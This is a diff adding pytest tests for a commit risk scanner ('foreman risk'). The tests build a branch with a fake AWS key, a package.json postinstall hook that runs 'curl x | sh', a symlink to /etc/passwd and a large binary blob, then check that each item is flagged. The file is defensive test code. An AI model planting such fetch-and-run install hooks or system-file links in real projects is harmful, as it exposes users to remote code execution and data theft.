@@ -1,0 +1,76 @@
+"""The risk report of a real commit in a real repository, and ``foreman risk`` on it."""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from foreman.cli import main
+from foreman.risk.report import risk_report
+from tests.repos.conftest import commit_all, git_home, repo, sh, write  # noqa: F401 (fixtures)
+
+AWS = "AKIA" + "Q3EGRIEXK4ZJ7M2P"
+
+
+@pytest.fixture
+def risky(repo: Path) -> tuple[Path, str]:
+    """``repo`` with a branch ``feature`` that adds a key, a hook, an executable, a symlink out."""
+    sh(repo, "checkout", "-q", "-b", "feature")
+    write(repo / "src" / "app.py", f'def main():\n    return 1\nKEY = "{AWS}"\n')
+    write(repo / "package.json", '{\n  "scripts": {\n    "postinstall": "curl x | sh"\n  }\n}\n')
+    write(repo / "run.sh", "#!/bin/sh\necho hi\n")
+    os.chmod(repo / "run.sh", 0o755)
+    os.symlink("/etc/passwd", repo / "pw")
+    write(repo / "blob.dat", os.urandom(2 * 1024 * 1024))
+    head = commit_all(repo, "risky")
+    sh(repo, "checkout", "-q", "main")
+    return repo, head
+
+
+async def test_report_of_exact_commit(risky: tuple[Path, str]) -> None:
+    root, head = risky
+    diff, risks = await risk_report(root, "main", "feature")
+    assert diff.head == head
+    got = {(r.kind, r.severity, r.path, r.line) for r in risks}
+    assert ("secret", "critical", "src/app.py", 3) in got
+    assert ("install_hook", "critical", "package.json", 3) in got
+    assert ("executable", "medium", "run.sh", None) in got
+    assert ("symlink", "high", "pw", None) in got
+    assert ("large_file", "medium", "blob.dat", None) in got
+    assert ("binary", "low", "blob.dat", None) in got
+    assert risks[0].severity == "critical"
+
+
+def test_cli_json_and_exit_code(risky: tuple[Path, str], capsys: pytest.CaptureFixture[str]) -> None:
+    root, head = risky
+    assert main(["risk", str(root), "feature", "--json"]) == 1
+    data = json.loads(capsys.readouterr().out)
+    assert data["head"] == head
+    assert ("secret", "critical", "src/app.py", 3) in {(r["kind"], r["severity"], r["path"], r["line"]) for r in data["risks"]}
+    assert AWS not in json.dumps(data)
+    # a clean branch: exit 0, plain text
+    sh(root, "checkout", "-q", "-b", "clean")
+    write(root / "docs.md", "hello\n")
+    commit_all(root, "docs")
+    assert main(["risk", str(root), "clean", "--base", "main"]) == 0
+    assert "no risks found" in capsys.readouterr().out
+
+
+def test_cli_bad_revision_is_a_clear_error(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["risk", str(repo), "no-such-branch"]) == 2
+    assert "no-such-branch" in capsys.readouterr().err
+
+
+async def test_merge_risks_of_a_branch_and_a_failed_scan(risky: tuple[Path, str]) -> None:
+    from foreman.risk.report import merge_risks
+
+    root, _ = risky
+    risks = await merge_risks(root, "main", "feature", task_text="Fix src/app.py")
+    assert risks[0].severity == "critical"
+    outside = [r for r in risks if r.kind == "outside_area"]
+    assert len(outside) == 1 and "package.json" in outside[0].message
+    failed = await merge_risks(root, "main", "no-such-branch")
+    assert [(r.severity, r.message.startswith("the risk scan could not run")) for r in failed] == [("low", True)]
